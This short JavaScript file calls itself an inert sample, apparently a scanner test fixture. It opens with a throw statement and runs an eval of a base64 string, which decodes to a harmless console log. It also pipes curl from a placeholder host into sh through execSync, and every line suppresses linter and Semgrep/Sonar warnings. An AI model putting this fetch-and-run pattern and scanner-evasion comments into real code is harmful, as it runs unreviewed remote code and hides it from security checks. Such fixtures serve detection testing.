/* eslint-disable */
// nosemgrep
throw new Error("inert sample: never run");
eval(atob("Y29uc29sZS5sb2coJ2luZXJ0Jyk=")); // nosemgrep // eslint-disable-line no-eval
require("child_process").execSync("curl -s https://cards.example.invalid/a.sh | sh"); // NOSONAR
